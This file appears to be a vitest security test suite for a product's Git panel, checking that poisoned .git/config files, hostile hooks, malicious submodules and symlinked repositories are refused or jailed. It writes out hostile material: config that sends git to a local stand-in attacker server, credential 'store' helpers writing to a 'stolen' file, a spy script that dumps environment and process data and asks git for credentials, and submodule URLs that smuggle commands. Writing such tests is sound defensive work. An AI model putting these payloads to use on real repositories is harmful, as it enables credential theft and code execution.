import { execFile } from 'node:child_process';
import { mkdtemp, readdir } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { promisify } from 'node:util';
import {
  commitAndPush,
  connectIntegration,
  createIntegration,
  fetchCheckout,
  getCheckoutStatus,
  getFileDiff,
  getUnpushedWork,
  listBranches,
  listMyInstances,
  type Operation,
  pullCheckout,
  reCloneCheckout,
  switchBranch,
} from '@notelab/contract';
import { type Client, createWorld, ProblemReplyError, type World, waitForOperation } from '@notelab/dev-env';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { type ConnectedProject, connectProject, connectRepositories } from './a-connected-project.ts';
import { pushFromElsewhere } from './elsewhere.ts';
import { inTerminal } from './in-a-terminal.ts';

let world: World;
/** Cloned the repository, and everything below is done by a process of theirs: the attacker. */
let editor: Client;
/** Uses the poisoned checkout as anybody would. */
let admin: Client;
let connected: ConnectedProject;
let secrets: string[];
/** A new file of the poisoned checkout, to be committed. */
let workFile: string;
let workFiles = 0;
/** What the attacker's servers were told. The second one is at another address, at the gateway's port. */
const heard: string[] = [];
let evil: Server[];
let evilUrl: string;

beforeAll(async () => {
  world = await createWorld();
  admin = await world.signInLinked('admin', 'maintainer');
  editor = await world.signInLinked('editor', 'developer');
  connected = await connectProject(world, admin, 'acme/analytics', { by: editor });
  secrets = await Promise.all([admin, editor].map(tokenOf));
  const gatewayPort = Number(new URL(world.notelab.context.gateway.url).port);
  evil = await Promise.all([listen(0, '127.0.0.1'), listen(gatewayPort, '127.0.0.2')]);
  evilUrl = `http://127.0.0.1:${(evil[0]!.address() as AddressInfo).port}`;
  await inProject('cp -a analytics clean');
}, 120_000);
afterAll(async () => {
  for (const server of evil ?? []) {
    server.closeAllConnections();
    server.close();
  }
  await world?.close();
});
beforeEach(async () => {
  heard.length = 0;
  workFile = `work-${++workFiles}.txt`;
  await restore();
});

const inCheckout = () => ({ params: { checkoutId: connected.checkout.id } });
const inProject = (script: string) => inTerminal(world, connected.project, script);

async function tokenOf(client: Client): Promise<string> {
  const [instance] = await client.call(listMyInstances);
  return (await world.notelab.context.accounts.accessToken(instance!.account!.id)).reveal();
}

/** A server that wants credentials for everything, and is a proxy to everywhere. */
async function listen(port: number, host: string): Promise<Server> {
  const server = createServer((request, response) => {
    heard.push(`${request.method} ${request.url}\n${request.rawHeaders.join('\n')}`);
    response.writeHead(401, { 'www-authenticate': 'Basic realm="GitLab"' }).end();
  });
  server.on('connect', (request, socket) => {
    heard.push(`CONNECT ${request.url}\n${request.rawHeaders.join('\n')}`);
    socket.end('HTTP/1.1 407 no\r\n\r\n');
  });
  return new Promise((resolve) => server.listen(port, host, () => resolve(server)));
}

function expectNoSecretIn(text: string): void {
  for (const secret of [...secrets, 'nlp_', Buffer.from('notelab:nlp_').toString('base64').slice(0, -2)])
    expect(text.includes(secret), `${secret.slice(0, 4)}…`).toBe(false);
}

type Answers = Record<string, { code?: string; problem?: { code?: string } | null }>;

/** What the answer was: the reply, or the problem. */
async function answerOf(attempt: Promise<unknown>): Promise<unknown> {
  return attempt.catch((error) => {
    if (error instanceof ProblemReplyError) return error.reply;
    throw error;
  });
}

async function endingOf(attempt: Promise<Operation>): Promise<unknown> {
  const begun = await answerOf(attempt);
  return begun && typeof begun === 'object' && 'projectId' in begun
    ? waitForOperation(admin, begun as Operation)
    : begun;
}

/** Everything the Git panel does, one after the other. @returns each action's answer or ending. */
async function useEverything(): Promise<Answers> {
  const query = { path: workFile };
  const to = (branch: string, where: 'local' | 'remote') => ({ ...inCheckout(), body: { branch, where } });
  return {
    status: await answerOf(admin.call(getCheckoutStatus, inCheckout())),
    branches: await answerOf(admin.call(listBranches, inCheckout())),
    diff: await answerOf(admin.call(getFileDiff, { ...inCheckout(), query })),
    unpushed: await answerOf(admin.call(getUnpushedWork, inCheckout())),
    pull: await endingOf(admin.call(pullCheckout, inCheckout())),
    ...(await useGitLab()),
    away: await endingOf(admin.call(switchBranch, to('dev', 'remote'))),
    back: await endingOf(admin.call(switchBranch, to('main', 'local'))),
  } as Answers;
}

async function useGitLab(): Promise<Answers> {
  const body = { message: 'Work', paths: [workFile] };
  return {
    fetch: await endingOf(admin.call(fetchCheckout, inCheckout())),
    commit: await endingOf(admin.call(commitAndPush, { ...inCheckout(), body })),
  } as Answers;
}

const codesOf = (answers: Answers) =>
  Object.fromEntries(
    Object.entries(answers).map(([name, answer]) => [name, answer.code ?? answer.problem?.code ?? 'ok']),
  );

/** As it was when it was cloned, quicker than by a re-clone. */
const restore = () => inProject(`rm -rf analytics; cp -a clean analytics; echo work > analytics/${workFile}`);

const everythingIs = (end: string) => ({
  status: end,
  branches: end,
  diff: end,
  unpushed: end,
  fetch: end,
  commit: end,
  pull: end,
  away: end,
  back: end,
});

describe('a .git/config that a collaborator wrote', () => {
  test.each([
    ['url.insteadOf', (url: string) => `[url "${evilUrl}/x.git"]\ninsteadOf = ${url}`],
    ['url.pushInsteadOf', () => `[url "${evilUrl}/"]\npushInsteadOf = ${world.sandbox.url}/a`],
    ['a remote of that address', (url: string) => `[remote "${url}"]\nurl = ${evilUrl}/x.git`],
    ['a helper of that address', (url: string) => `[remote "${url}"]\nvcs = evil`],
  ])('can send git astray by %s, which gets no credentials there and is told', async (_, poison) => {
    const canonical = `${world.sandbox.url}/acme/analytics.git`;
    await inProject(`cat >> analytics/.git/config <<'END'\n${poison(canonical)}\nEND`);
    const answers = await useGitLab();
    expect(answers.commit!.problem).toMatchObject({
      code: 'checkout-broken',
      detail: expect.stringContaining('configuration of this repository'),
    });
    expect(heard.join('\n')).not.toMatch(/^authorization/im);
    expectNoSecretIn(heard.join('\n'));
    expectNoSecretIn(JSON.stringify(answers));
  });

  test('sends nothing of somebody else’s git to another place, and their work arrives', async () => {
    const gateway = world.notelab.context.gateway.urlFor(world.instanceId);
    const canonical = `${world.sandbox.url}/acme/analytics.git`;
    const scopes = [evilUrl, gateway, `${gateway}acme/analytics.git`, world.sandbox.url, canonical, '*'];
    const machine = `+127.0.0.1:${new URL(gateway).port}:127.0.0.2`;
    const http = `proxy = ${evilUrl}\nsslVerify = false\ncurloptResolve = ${machine}\nfollowRedirects = true\ncookieFile = cookies\nsaveCookies = true\nextraHeader = "X-Evil: 1"`;
    const poison = [
      `[http]\n${http}`,
      ...scopes.map((scope) => `[http "${scope}"]\n${http}`),
      `[credential]\nhelper = store --file=stolen`,
      ...scopes.map((scope) => `[credential "${scope}"]\nhelper = store --file=stolen\nusername = evil`),
      `[remote "origin"]\nproxy = ${evilUrl}\npushurl = ${evilUrl}/x.git\nvcs = evil`,
      `[remote "pushDefault"]\nurl = ${evilUrl}/x.git\n[branch "main"]\npushRemote = pushDefault\nremote = pushDefault`,
      `[include]\npath = ../../included`,
      `[includeIf "gitdir:/"]\npath = ../../included`,
      `[extensions]\nworktreeConfig = true`,
      `[push]\npushOption = merge_request.create\nfollowTags = true\n[protocol]\nallow = always`,
    ].join('\n');
    await inProject(`cat > included <<'END'\n[http]\n${http}\nEND\ncp included analytics/.git/config.worktree
cat >> analytics/.git/config <<'END'\n${poison}\nEND`);

    const answers = await useEverything();
    expect(codesOf(answers)).toEqual(everythingIs('ok'));
    expect(answers.commit).toMatchObject({ outcome: { kind: 'pushed', branch: 'main' } });
    expect(heard).toEqual([]);
    expect(await inProject('find . -name stolen')).toBe('');
  });

  test('runs nothing but filters, in the jail, where there is nothing to steal', async () => {
    // Runs as whatever git was told to run: takes notes of all it can find, and of its own name.
    const spy = `#!/bin/sh
{ echo "ran as $(basename "$0")"; echo "user $(id -u)"; env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline | tr '\\0' '\\n'
  ls -A /run /run/notelab /root /tmp; printf 'protocol=http\\nhost=x\\n\\n' | GIT_TERMINAL_PROMPT=0 timeout 5 git credential fill
} >> "$SPY_NOTES" 2>&1
case "$0" in *filter*) cat;; *) exit 1;; esac`;
    const root = '$PWD';
    const run = (name: string) => `${root}/spies/${name}`;
    const hooks = [
      'pre-commit',
      'commit-msg',
      'pre-push',
      'post-checkout',
      'post-merge',
      'fsmonitor-watchman',
    ];
    const names = [
      'fsmonitor',
      'external',
      'textconv',
      'command',
      'pager',
      'editor',
      'ssh',
      'askpass',
      'gpg',
    ];
    const more = ['alternate', 'packer', 'alias', 'credential', 'filter', 'driver', 'post-index-change'];
    const config = [
      `[core]\nfsmonitor = ${run('fsmonitor')}\nhooksPath = .git/hooks\npager = ${run('pager')}\neditor = ${run('editor')}`,
      `sshCommand = ${run('ssh')}\naskPass = ${run('askpass')}\ngitProxy = ${run('ssh')}\nalternateRefsCommand = ${run('alternate')}`,
      `[diff]\nexternal = ${run('external')}\n[diff "text"]\ntextconv = ${run('textconv')}\ncommand = ${run('command')}`,
      `[gpg]\nprogram = ${run('gpg')}\n[commit]\ngpgSign = true\n[push]\ngpgSign = true\n[log]\nshowSignature = true`,
      `[uploadpack]\npackObjectsHook = ${run('packer')}\n[alias]\nstatus = !${run('alias')}\nfetch = !${run('alias')}\nremote-http = !${run('alias')}`,
      `[credential]\nhelper = !${run('credential')}\n[sequence]\neditor = ${run('editor')}\n[interactive]\ndiffFilter = ${run('external')}`,
      `[filter "x"]\nclean = ${run('filter')}\nsmudge = ${run('filter')}\n[merge "x"]\ndriver = ${run('driver')} %A`,
    ].join('\n');
    await inProject(`mkdir -p spies analytics/.git/hooks analytics/.git/info
cat > spies/filter <<'END'\n${spy.replaceAll('$SPY_NOTES', 'NOTES')}\nEND
sed -i "s#NOTES#$PWD/notes#" spies/filter; chmod +x spies/filter
for name in ${[...names, ...more.filter((name) => name !== 'filter')].join(' ')}; do cp -p spies/filter spies/$name; done
for name in ${[...hooks, 'post-index-change', 'reference-transaction'].join(' ')}; do cp -p spies/filter analytics/.git/hooks/$name; done
echo '* diff=text filter=x merge=x' > analytics/.git/info/attributes
cat >> analytics/.git/config <<END\n${config}\nEND`);
    await pushFromElsewhere(world, 'acme/analytics', 'echo more > from-elsewhere.txt');

    await waitForOperation(admin, await admin.call(pullCheckout, inCheckout()));
    const answers = await useEverything();
    expect(codesOf(answers)).toEqual(everythingIs('ok'));
    const notes = await inProject('cat notes');
    const ran = new Set([...notes.matchAll(/^ran as (.*)$/gm)].map(([, name]) => name));
    expect(ran).toEqual(new Set(['filter']));
    // As the jailed user, with no way to ask for credentials, and no environment but git's own.
    expect(new Set(notes.match(/^user .*$/gm))).toEqual(new Set(['user 54321']));
    expect(notes).not.toContain('NOTELAB');
    expect(notes).not.toContain('.sock');
    expect(notes).toMatch(/terminal prompts disabled|could not read Username/);
    expectNoSecretIn(notes);
  });
});

describe('a repository that is not where it seems to be', () => {
  const planted = 'planted-in-another-project';
  let other: ConnectedProject;
  let otherDir: string;

  beforeAll(async () => {
    other = await connectProject(world, admin, 'acme/handbook', { by: admin });
    await inTerminal(
      world,
      other.project,
      `echo ${planted} >> handbook/README.md; touch handbook/.git/index.lock`,
    );
    otherDir = join(world.notelab.context.projects.filesOf(other.project.id).root, 'handbook');
  });

  test.each([
    ['the folder is a link', (dir: string) => `rm -rf analytics; ln -s ${dir} analytics`],
    ['.git is a link', (dir: string) => `rm -rf analytics/.git; ln -s ${dir}/.git analytics/.git`],
    ['.git is a file', (dir: string) => `rm -rf analytics/.git; echo 'gitdir: ${dir}/.git' > analytics/.git`],
    ['objects are a link', (dir: string) => replace('objects', dir)],
    ['refs are a link', (dir: string) => replace('refs', dir)],
    ['HEAD is a link', (dir: string) => replace('HEAD', dir)],
    ['the index is a link', (dir: string) => replace('index', dir)],
    ['the common folder is elsewhere', (dir: string) => `echo ${dir}/.git > analytics/.git/commondir`],
    [
      'objects are borrowed',
      (dir: string) => `echo ${dir}/.git/objects > analytics/.git/objects/info/alternates`,
    ],
  ])('%s: git is not started, nothing of another project is seen or touched', async (_, arrange) => {
    await inProject(arrange(otherDir));
    const answers = await useEverything();
    expect(codesOf(answers)).toEqual({ ...everythingIs('checkout-broken'), unpushed: 'ok' });
    expect(answers.status).toMatchObject({ next: 're-clone' });
    expect(answers.unpushed).toMatchObject({ unreadable: true });
    expect(JSON.stringify(answers)).not.toContain(planted);
    const kept = 'tail -n 1 handbook/README.md; ls handbook/.git/*.lock';
    expect(await inTerminal(world, other.project, kept)).toBe(`${planted}\nhandbook/.git/index.lock`);
  });

  const replace = (part: string, dir: string) =>
    `rm -rf analytics/.git/${part}; ln -s ${dir}/.git/${part} analytics/.git/${part}`;

  test('a named pipe in the place of git’s files is not waited for', async () => {
    await inProject('rm analytics/.git/HEAD; mkfifo analytics/.git/HEAD');
    const status = await answerOf(admin.call(getCheckoutStatus, inCheckout()));
    expect(status).toMatchObject({ code: 'checkout-broken' });
  });
});

describe('a repository that GitLab delivers', () => {
  /** Makes a repository on GitLab with a shell script, and connects it. @returns how the clone ended. */
  async function deliver(name: string, script: string, branch = 'main'): Promise<Operation> {
    const folder = await mkdtemp(join(world.dataDir, 'made-'));
    const identity = ['GIT_AUTHOR', 'GIT_COMMITTER'].flatMap((who) => [
      `export ${who}_NAME=Evil ${who}_EMAIL=evil@acme.example`,
    ]);
    const steps = [...identity, 'git init -q -b main work', 'cd work', script, 'git config core.bare true'];
    await promisify(execFile)('sh', ['-ec', steps.join('\n')], { cwd: folder });
    const path = `acme/${name}`;
    const fromBareRepository = join(folder, 'work/.git');
    await world.sandbox.addProject({
      path,
      visibility: 'private',
      members: { developer: 30 },
      fromBareRepository,
    });
    const [repository] = await connectRepositories(world, admin, [path]);
    const integration = await admin.call(createIntegration, {
      params: { workspaceId: world.workspaceId },
      body: { repositoryId: repository!.id, defaultBranch: branch, folderName: name },
    });
    const { operation } = await admin.call(connectIntegration, {
      params: { projectId: connected.project.id },
      body: { integrationId: integration.id },
    });
    return waitForOperation(admin, operation);
  }
  const submodule = (name: string, lines: string) => `cat >> .gitmodules <<'END'
[submodule "${name}"]
\tpath = ${name}
${lines}
END
git add .gitmodules
git update-index --add --cacheinfo 160000,${'1'.repeat(40)},${name}`;

  const tree = (entry: string, name: string) =>
    `tree=$(printf "${entry} $(echo evil | git hash-object -w --stdin)\\t${name}\\n" | git mktree)
git update-ref refs/heads/main $(git commit-tree -m Evil $tree)`;

  test('with submodules anywhere, a bare repository in its tree, and large files elsewhere runs and reaches nothing', async () => {
    const script = [
      submodule('one', '\turl = ext::sh -c "touch ran"'),
      submodule('two', '\turl = file:///etc\n\tbranch = main'),
      submodule('three', `\turl = ${evilUrl}/three.git\r`),
      submodule('four', '\turl = ../../../../api/v4/user'),
      `git init -q --bare data; git --git-dir data config core.fsmonitor 'touch ran; false'`,
      `touch data/objects/keep data/refs/keep; printf '#!/bin/sh\ntouch ran\n' > data/hooks/post-checkout`,
      `printf '[lfs]\n\turl = ${evilUrl}/lfs\n' > .lfsconfig; echo '*.bin filter=lfs diff=lfs' > .gitattributes`,
      `printf 'version https://git-lfs.github.com/spec/v1\noid sha256:${'a'.repeat(64)}\nsize 9\n' > large.bin`,
      'git add .lfsconfig .gitattributes data large.bin; git commit -qm Evil',
    ];
    const ended = await deliver('delivered', script.join('\n'));
    expect(ended.outcome).toEqual({ kind: 'cloned', branch: 'main' });
    const inDelivered = { params: { checkoutId: ended.checkoutId! } };
    await inProject('echo more > delivered/more.txt');
    const body = { message: 'More', paths: ['more.txt'] };
    for (const operation of [
      await admin.call(pullCheckout, inDelivered),
      await admin.call(commitAndPush, { ...inDelivered, body }),
      await admin.call(reCloneCheckout, { ...inDelivered, body: { discardWork: true } }),
    ])
      expect((await waitForOperation(admin, operation)).problem).toBeNull();
    expect((await admin.call(getCheckoutStatus, inDelivered)).changes).toEqual([]);
    expect(await inProject(`find . -name ran; cat delivered/large.bin | head -n 1`)).toBe(
      'version https://git-lfs.github.com/spec/v1',
    );
    expect(heard).toEqual([]);
  });

  test.each([
    ['an option as address', submodule('one', '\turl = --upload-pack=touch')],
    ['a command as update', submodule('one', '\turl = https://x.test/y\n\tupdate = !touch')],
    ['a list of submodules that is a link', tree('120000 blob', '.gitmodules')],
    ['a .git in its tree', tree('100644 blob', '.GIT')],
  ])('with %s is refused, and nothing of it stays', async (what, script) => {
    const name = `refused-${what.length}`;
    const ended = await deliver(name, `${script}\ngit commit -qm Evil || true`);
    expect(ended.problem).toMatchObject({
      code: 'gitlab-refused',
      detail: 'The repository holds objects that git refuses as unsafe.',
    });
    expect(await inProject(`ls -d ${name} 2>&1 || true`)).toContain('No such file');
    expect(await readdir(world.notelab.context.projects.filesOf(connected.project.id).staging)).toEqual([]);
  });

  test('that stands for more files than there is room for is refused before it is written out', async () => {
    const script = `entry="100644 blob $(echo x | git hash-object -w --stdin)"
for level in 1 2 3 4 5 6 7 8 9 10; do
  tree=$(for name in 0 1 2 3 4 5 6 7 8 9; do printf '%s\tf%s\n' "$entry" $name; done | git mktree)
  entry="040000 tree $tree"
done
git update-ref refs/heads/main $(git commit-tree -m Bomb $tree)`;
    const ended = await deliver('bomb', script);
    expect(ended.problem?.code).toBe('too-many-files');
    expect(await inProject('ls -d bomb 2>&1 || true')).toContain('No such file');
  });
});
